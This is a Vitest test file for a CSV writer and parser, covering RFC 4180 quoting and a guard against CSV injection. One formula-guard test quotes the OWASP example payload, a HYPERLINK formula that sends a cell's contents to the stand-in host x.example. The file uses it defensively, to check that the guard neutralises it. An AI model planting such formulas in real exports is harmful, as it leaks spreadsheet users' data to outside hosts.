import { describe, expect, it } from "vitest";
import { csvCell, csvRow, guardFormula, parseCsv, toCsv } from "@/lib/csv";

describe("RFC 4180 fields and records", () => {
  it("leaves plain fields bare and ends each record with CRLF", () => {
    // RFC 4180 §2.1: each record is on its own line, delimited by a line break (CRLF); §2.4: fields separated by commas
    expect(csvRow(["aaa", "bbb", "ccc"])).toBe("aaa,bbb,ccc\r\n");
  });

  it("keeps spaces as part of the field", () => {
    // RFC 4180 §2.4: "Spaces are considered part of a field and should not be ignored."
    expect(csvCell(" a b ")).toBe(" a b ");
  });

  it("quotes a field that holds a comma", () => {
    // RFC 4180 §2.6: fields containing commas should be enclosed in double quotes
    expect(csvCell("Marrow Junction, east")).toBe('"Marrow Junction, east"');
  });

  it("quotes a field with a line break and keeps the break", () => {
    // RFC 4180 §2.6 example: "aaa","b CRLF bb","ccc"
    expect(csvRow(["aaa", "b\r\nbb", "ccc"])).toBe('aaa,"b\r\nbb",ccc\r\n');
    expect(csvCell("line one\nline two")).toBe('"line one\nline two"');
  });

  it("doubles a double quote inside a quoted field", () => {
    // RFC 4180 §2.7 example: "aaa","b""bb","ccc"
    expect(csvRow(["aaa", 'b"bb', "ccc"])).toBe('aaa,"b""bb",ccc\r\n');
  });

  it("writes the header line in the same format as the records", () => {
    // RFC 4180 §2.3: an optional header line with the same format as normal records
    expect(toCsv(["field_name", "field, two"], [["aaa", "bbb"]])).toBe('field_name,"field, two"\r\naaa,bbb\r\n');
  });

  it("writes empty cells for missing values and numbers as written", () => {
    // common practice: an empty field is nothing between the commas (RFC 4180 §2 ABNF allows zero TEXTDATA)
    expect(csvRow([null, undefined, 0.0625, 18])).toBe(",,0.0625,18\r\n");
  });
});

describe("formula guard (CSV injection)", () => {
  // OWASP ASVS 5.0 requirement 1.2.10 and the OWASP "CSV Injection" page: a cell beginning with
  // = + - @ (and tab, carriage return, NUL) is prefixed with a single quote.
  it.each(["=1+2", "+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"])("prefixes %j with an apostrophe", (text) => {
    expect(guardFormula(text)).toBe(`'${text}`);
  });

  it("still quotes a guarded cell that needs quotes, after the apostrophe", () => {
    // OWASP CSV Injection example payload, then RFC 4180 §2.6/§2.7 quoting of its comma and quotes
    expect(csvCell('=HYPERLINK("http://x.example/?"&A1,"Open")')).toBe('"\'=HYPERLINK(""http://x.example/?""&A1,""Open"")"');
  });

  it("leaves text that starts otherwise alone, including an apostrophe already there", () => {
    expect(guardFormula("SRRL 104233")).toBe("SRRL 104233"); // common practice: ordinary text passes unchanged
    expect(guardFormula("'=x")).toBe("'=x"); // the apostrophe is not itself a formula start (OWASP list)
    expect(guardFormula("a=b")).toBe("a=b"); // only the first character matters (OWASP CSV Injection)
  });

  it("does not touch real numbers, so negative values stay numeric", () => {
    // OWASP CSV Injection notes the prefix breaks numbers; Tearline guards text cells only
    expect(csvCell(-0.5)).toBe("-0.5");
    expect(csvCell("-0.5")).toBe("'-0.5");
  });
});

describe("reading back", () => {
  it("round-trips awkward text through write and parse", () => {
    const rows = [["a,b", 'say "hi"', "two\r\nlines", "", "plain"]];
    const text = toCsv(["h1", "h2", "h3", "h4", "h5"], rows);
    expect(parseCsv(text)).toEqual([["h1", "h2", "h3", "h4", "h5"], ...rows]);
  });

  it("reads the RFC's own examples", () => {
    // RFC 4180 §2.6 and §2.7 examples
    expect(parseCsv('"aaa","b\r\nbb","ccc"\r\nzzz,yyy,xxx')).toEqual([
      ["aaa", "b\r\nbb", "ccc"],
      ["zzz", "yyy", "xxx"],
    ]);
    expect(parseCsv('"aaa","b""bb","ccc"')).toEqual([["aaa", 'b"bb', "ccc"]]);
  });

  it("refuses text that ends inside quotes", () => {
    expect(() => parseCsv('"open')).toThrow(/quoted/);
  });
});
